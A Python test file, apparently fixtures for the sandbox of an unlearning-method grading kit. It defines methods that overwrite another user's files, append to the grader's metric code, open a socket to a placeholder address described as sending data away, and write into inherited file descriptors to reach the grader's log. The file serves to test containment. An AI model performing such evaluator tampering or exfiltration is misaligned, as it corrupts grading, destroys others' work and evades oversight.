"""Methods that write where they should not, and unlearn as the baseline does."""

from __future__ import annotations

import contextlib
import os
import socket
from pathlib import Path

from torch import nn

from methods.BaseMethod import Loader
from methods.MyMethod import MyMethod


class Writers(MyMethod):
    """Overwrite files of others."""

    which: str = "honest"
    """Which trick."""
    files: str = ""
    """A folder of somebody else's."""
    kit: str = ""
    """Where the kit is."""

    def run(self, net: nn.Module, retain_loader: Loader, forget_loader: Loader, val_loader: Loader) -> None:
        """See `BaseMethod.run`."""
        super().run(net, retain_loader, forget_loader, val_loader)
        getattr(self, self.which)()

    def honest(self) -> None:
        """Nothing beside the baseline."""

    def others_files(self) -> None:
        """Outputs of the bank, its manifest, reports, tuned values: whatever there is."""
        for path in Path(self.files).glob("*"):
            with contextlib.suppress(OSError):
                path.write_text("mine")
        with contextlib.suppress(OSError):
            (Path(self.files) / "new").write_text("mine")

    def code_of_the_kit(self) -> None:
        """The metric, for the next grading: a line that changes nothing but the file."""
        with contextlib.suppress(OSError), open(Path(self.kit) / "evaluation/metrics/metric.py", "a") as metric:
            metric.write("# mine\n")

    def the_network(self) -> None:
        """What it has read is sent away."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as remote, contextlib.suppress(OSError):
            remote.connect(("192.0.2.1", 9))
            print("connected")

    def the_log_of_the_grader(self) -> None:
        """Through descriptors that it has from the process that it was forked from."""
        for number in range(4, 200):
            with contextlib.suppress(OSError):
                os.write(number, b"mine")
                print("wrote to", number)
